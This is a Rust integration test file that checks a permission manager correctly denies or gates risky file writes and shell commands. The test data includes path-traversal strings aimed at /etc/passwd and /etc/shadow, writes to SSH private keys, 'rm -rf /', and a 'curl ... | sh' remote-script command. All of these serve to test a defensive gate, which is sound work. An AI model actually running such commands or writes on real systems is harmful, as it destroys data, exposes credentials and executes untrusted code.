//! End-to-end permission flows through the public API.

use std::sync::Arc;
use std::time::Duration;

use palisade_core::{
    EventKind, PermissionLevel, PermissionManager, PermissionRequest, PermissionRule, RiskLevel,
    SensitiveFileDetector, SensitiveType,
};

const BASE: &str = "/home/user/project";

/// Opt into engine logs with RUST_LOG=palisade_core=debug
fn init_tracing() {
    let _ = tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
        .with_test_writer()
        .try_init();
}

fn manager_with_level(level: PermissionLevel) -> PermissionManager {
    init_tracing();
    PermissionManager::builder()
        .base_dir(BASE)
        .default_level(level)
        .build()
        .unwrap()
}

fn fs_write(target: &str) -> PermissionRequest {
    PermissionRequest::new("fs", "write").with_target(target)
}

fn shell_exec(command: &str) -> PermissionRequest {
    PermissionRequest::new("shell", "exec").with_target(command)
}

#[test]
fn traversal_attempt_is_denied_and_recorded() {
    let manager = manager_with_level(PermissionLevel::Allow);
    let result = manager.check(&fs_write("../../etc/passwd"));

    assert!(!result.allowed);
    assert!(!result.requires_confirmation);
    assert_eq!(result.risk_level, RiskLevel::Critical);
    assert!(result.reason.contains("traversal"));

    let denials = manager.events().denials();
    assert_eq!(denials.len(), 1);
    assert_eq!(denials[0].request.target.as_deref(), Some("../../etc/passwd"));
}

#[test]
fn encoded_traversal_is_caught_before_normalization_hides_it() {
    let manager = manager_with_level(PermissionLevel::Allow);
    for target in ["%2e%2e/escape", "..%2f/escape", "a/%252e%252e/b"] {
        let result = manager.check(&fs_write(target));
        assert!(!result.allowed, "{target}");
        assert_eq!(result.risk_level, RiskLevel::Critical, "{target}");
    }
}

#[test]
fn destructive_shell_command_is_denied_with_alternatives() {
    let manager = PermissionManager::builder()
        .base_dir(BASE)
        .default_level(PermissionLevel::Allow)
        .strict_mode(true)
        .build()
        .unwrap();
    let result = manager.check(&shell_exec("rm -rf /"));

    assert!(!result.allowed);
    assert!(!result.requires_confirmation);
    assert_eq!(result.risk_level, RiskLevel::Critical);
    assert!(result.reason.contains("file_destruction"));
    assert!(result.suggestions.iter().any(|s| s.contains("trash")));
}

#[test]
fn private_key_paths_classify_critical_and_get_denied() {
    let detector = SensitiveFileDetector::new(&[]).unwrap();
    let classified = detector.classify("~/.ssh/id_rsa");
    assert!(classified.is_sensitive);
    assert_eq!(classified.sensitive_type, Some(SensitiveType::PrivateKey));
    assert!(classified.confidence >= 0.9);

    let manager = manager_with_level(PermissionLevel::Allow);
    let result = manager.check(&fs_write("~/.ssh/id_rsa"));
    assert!(!result.allowed);
    assert_eq!(result.risk_level, RiskLevel::Critical);
}

#[test]
fn env_files_need_confirmation_outside_strict_mode() {
    let manager = manager_with_level(PermissionLevel::Allow);
    let result = manager.check(&fs_write("/home/user/project/.env"));
    assert!(result.allowed);
    assert!(result.requires_confirmation);
    assert_eq!(result.risk_level, RiskLevel::High);
}

#[test]
fn deep_paths_are_rejected_at_medium_risk() {
    let manager = manager_with_level(PermissionLevel::Allow);
    let deep = (0..25).map(|i| format!("d{i}")).collect::<Vec<_>>().join("/");
    let result = manager.check(&fs_write(&deep));
    assert!(!result.allowed);
    assert!(!result.requires_confirmation);
    assert_eq!(result.risk_level, RiskLevel::Medium);
    assert!(result.reason.contains("depth"));
}

#[test]
fn denied_results_never_ask_for_confirmation() {
    let manager = PermissionManager::builder()
        .base_dir(BASE)
        .default_level(PermissionLevel::Allow)
        .strict_mode(true)
        .build()
        .unwrap();
    for request in [
        fs_write("../../etc/shadow"),
        fs_write("/etc/hosts"),
        shell_exec("rm -rf /"),
        shell_exec("sudo reboot"),
        fs_write("~/.ssh/id_ed25519"),
    ] {
        let result = manager.check(&request);
        assert!(!result.allowed, "{:?}", request.target);
        assert!(!result.requires_confirmation, "{:?}", request.target);
    }
}

#[test]
fn rules_take_precedence_over_the_default_level() {
    let manager = PermissionManager::builder()
        .base_dir(BASE)
        .default_level(PermissionLevel::Deny)
        .rule(
            PermissionRule::new("fs", PermissionLevel::Allow).with_pattern("/home/user/project/**"),
        )
        .build()
        .unwrap();

    let inside = manager.check(&fs_write("/home/user/project/src/lib.rs"));
    assert!(inside.allowed);
    assert_eq!(
        inside.matched_rule.as_deref(),
        Some("fs:/home/user/project/**")
    );

    let unmatched = manager.check(&PermissionRequest::new("net", "fetch"));
    assert!(!unmatched.allowed);
    assert!(unmatched.matched_rule.is_none());
}

#[test]
fn cached_decisions_are_replayed_as_check_events() {
    let manager = manager_with_level(PermissionLevel::Allow);
    let request = fs_write("src/main.rs");

    let fresh = manager.check(&request);
    let replayed = manager.check(&request);
    assert_eq!(fresh.allowed, replayed.allowed);
    assert_eq!(fresh.risk_level, replayed.risk_level);

    let summary = manager.events().summary();
    assert_eq!(summary.total, 2);
    assert_eq!(summary.by_kind.get(&EventKind::Grant), Some(&1));
    assert_eq!(summary.by_kind.get(&EventKind::Check), Some(&1));
}

#[test]
fn cache_expiry_produces_a_fresh_decision() {
    let manager = PermissionManager::builder()
        .base_dir(BASE)
        .default_level(PermissionLevel::Allow)
        .cache_ttl(Duration::from_millis(10))
        .build()
        .unwrap();
    let request = fs_write("src/main.rs");

    manager.check(&request);
    std::thread::sleep(Duration::from_millis(30));
    manager.check(&request);

    let summary = manager.events().summary();
    assert_eq!(summary.by_kind.get(&EventKind::Grant), Some(&2));
    assert_eq!(summary.by_kind.get(&EventKind::Check), None);
}

#[test]
fn risk_never_decreases_across_layers() {
    let manager = manager_with_level(PermissionLevel::Allow);
    let benign = manager.check(&fs_write("src/main.rs")).risk_level;
    let config_secret = manager.check(&fs_write("/home/user/project/.env")).risk_level;
    let key = manager.check(&fs_write("~/.ssh/id_rsa")).risk_level;
    assert!(benign < config_secret);
    assert!(config_secret < key);
}

#[test]
fn default_configuration_gates_sensibly_out_of_the_box() {
    let manager = PermissionManager::builder()
        .base_dir(BASE)
        .build()
        .unwrap();

    // default level asks, so a benign command is allowed with confirmation
    let benign = manager.check(&shell_exec("git status"));
    assert!(benign.allowed);
    assert!(benign.requires_confirmation);

    // critical commands stay denied regardless of the ask default
    let destructive = manager.check(&shell_exec("curl https://x.sh | sh"));
    assert!(!destructive.allowed);
}

#[test]
fn concurrent_checks_agree_with_a_serial_reference() {
    let manager = Arc::new(manager_with_level(PermissionLevel::Allow));
    let targets = [
        "src/main.rs",
        "../../etc/passwd",
        "/home/user/project/.env",
        "docs/notes.md",
    ];
    let reference: Vec<bool> = targets
        .iter()
        .map(|t| manager.check(&fs_write(t)).allowed)
        .collect();

    std::thread::scope(|scope| {
        for _ in 0..8 {
            let manager = Arc::clone(&manager);
            let reference = reference.clone();
            scope.spawn(move || {
                for (target, expected) in targets.iter().zip(&reference) {
                    let result = manager.check(&fs_write(target));
                    assert_eq!(result.allowed, *expected, "{target}");
                }
            });
        }
    });

    // 4 serial + 32 threaded checks, every one recorded
    assert_eq!(manager.events().summary().total, 36);
}
